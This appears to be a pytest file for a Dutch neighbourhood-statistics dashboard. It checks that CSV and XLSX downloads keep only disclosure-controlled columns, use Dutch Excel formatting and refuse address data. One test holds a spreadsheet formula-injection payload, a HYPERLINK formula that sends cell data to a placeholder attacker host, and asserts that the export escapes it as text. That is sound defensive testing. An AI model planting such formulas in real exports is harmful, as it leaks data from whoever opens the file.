"""Aggregate downloads: CSV for Dutch Excel and XLSX, published columns only, never addresses."""

from __future__ import annotations

import io

import numpy as np
import pandas as pd
import pytest

from dashboard.downloads import csv_bytes, published_rows, xlsx_bytes
from geo.errors import InputError


@pytest.fixture
def disclosed() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "code": ["BU09832501", "BU09832502", "WK098325"],
            "level": ["buurt", "buurt", "wijk"],
            "periode": "2024",
            "indicator": "illegale_bewoning",
            "teller": [3.0, 1234.0, np.nan],
            "noemer": [1650.0, 1850.0, 3500.0],
            "waarde": [1.818, 667.03, np.nan],
            "status": ["x", "", "."],
            "teller_publ": [np.nan, 1235.0, np.nan],
            "waarde_publ": [np.nan, 667.03, np.nan],
        }
    )


def test_published_rows_drop_raw_columns(disclosed: pd.DataFrame) -> None:
    rows = published_rows(disclosed, {"BU09832501": "Klingerberg-Zuid"})
    assert list(rows.columns) == [
        "code",
        "naam",
        "niveau",
        "periode",
        "indicator",
        "aantal_afgerond",
        "waarde",
        "status",
    ]
    assert rows.loc[0, "naam"] == "Klingerberg-Zuid"
    assert rows["aantal_afgerond"].isna().tolist() == [True, False, True]
    assert rows.loc[1, "aantal_afgerond"] == 1235


def test_published_rows_refuse_an_undisclosed_table(disclosed: pd.DataFrame) -> None:
    with pytest.raises(InputError, match="openbaarheidscontrole"):
        published_rows(disclosed.drop(columns=["status", "waarde_publ"]))


def test_csv_for_dutch_excel(disclosed: pd.DataFrame) -> None:
    data = csv_bytes(published_rows(disclosed, {"BU09832502": "Klingerberg-Noord"}))
    assert data.startswith(b"\xef\xbb\xbf")
    lines = data.decode("utf-8-sig").split("\r\n")
    assert lines[0] == "code;naam;niveau;periode;indicator;aantal_afgerond;waarde;status"
    assert lines[1] == "BU09832501;;buurt;2024;illegale_bewoning;;;x"
    assert lines[2] == "BU09832502;Klingerberg-Noord;buurt;2024;illegale_bewoning;1235;667,0;"
    assert lines[3].endswith(";;;.")
    assert "1,818" not in data.decode("utf-8-sig") and ";3;" not in data.decode("utf-8-sig")


def test_xlsx_reads_back(disclosed: pd.DataFrame) -> None:
    rows = published_rows(disclosed)
    back = pd.read_excel(io.BytesIO(xlsx_bytes(rows)), dtype={"status": str}, keep_default_na=False)
    assert list(back.columns) == list(rows.columns)
    assert back.loc[1, "waarde"] == pytest.approx(667.03)
    assert back.loc[0, "waarde"] == "" and back.loc[0, "status"] == "x"


def test_address_columns_are_refused() -> None:
    table = pd.DataFrame({"postcode": ["5911AA"], "aantal": [5]})
    for make in (csv_bytes, xlsx_bytes):
        with pytest.raises(InputError, match="Adresgegevens"):
            make(table)


def test_a_formula_in_an_area_name_is_text_in_csv_and_xlsx() -> None:
    """Issue 12: a buurt named =HYPERLINK(...) from an area file was written as a formula."""
    from openpyxl import load_workbook

    evil = '=HYPERLINK("http://aanval.example/?d="&A2,"klik")'
    table = pd.DataFrame(
        {
            "code": ["BU1", "BU2"],
            "naam": [evil, "@SUM(1+1)"],
            "waarde": [-1.5, 2.0],
            "tekst": ["-12,5", "+31 6"],
            "-kop": ["a", "b"],
        }
    )
    text = csv_bytes(table).decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "\n=" not in text and ";=" not in text
    assert "'@SUM" in text and ";-12,5;" in text and "'+31 6" in text and "'-kop" in text
    assert "-1,5" in text  # a negative number stays a number
    book = load_workbook(io.BytesIO(xlsx_bytes(table)))
    sheet = book.active
    assert sheet is not None
    cells = {c.coordinate: c for row in sheet.iter_rows() for c in row}
    assert cells["B2"].data_type == "s" and cells["B2"].value == "'" + evil
    assert cells["C2"].value == -1.5 and cells["C2"].data_type == "n"
    assert not any(c.data_type == "f" for c in cells.values())
